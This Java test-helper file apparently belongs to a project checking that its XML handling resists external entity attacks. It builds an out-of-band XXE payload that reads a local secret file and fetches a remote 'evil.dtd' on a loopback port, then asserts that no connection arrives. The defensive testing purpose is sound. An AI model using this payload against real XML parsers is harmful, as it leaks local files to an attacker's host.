package org.dml4j.experiments;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.file.Path;

/** The XML external entity payloads of issue 23, and the loopback listener that shows whether one connected. */
public final class XxePayloads {

    private XxePayloads() {
    }

    /**
     * A configuration whose DTD reads a local file into a parameter entity and fetches a DTD from another host
     * (which would send the file's content on).
     *
     * @param secret the local file
     * @param port   the "other host's" loopback port
     * @return the XML
     */
    public static String outOfBandDtd(Path secret, int port) {
        return """
                <?xml version="1.0"?>
                <!DOCTYPE config [
                  <!ENTITY % secret SYSTEM "SECRET_URI">
                  <!ENTITY % dtd SYSTEM "http://127.0.0.1:PORT/evil.dtd">
                  %dtd;
                ]>
                <config/>
                """.replace("SECRET_URI", secret.toUri().toString()).replace("PORT", String.valueOf(port));
    }

    /** @return a listener on a free loopback port */
    public static ServerSocket listener() throws IOException {
        return new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    }

    /** A connection made while the command ran waits in the backlog; none must be there. */
    public static void assertNoConnection(ServerSocket listener) throws IOException {
        listener.setSoTimeout(500);
        try (Socket accepted = listener.accept()) {
            throw new AssertionError("a connection came from " + accepted.getRemoteSocketAddress());
        } catch (SocketTimeoutException expected) {
            // no connection
        }
    }
}
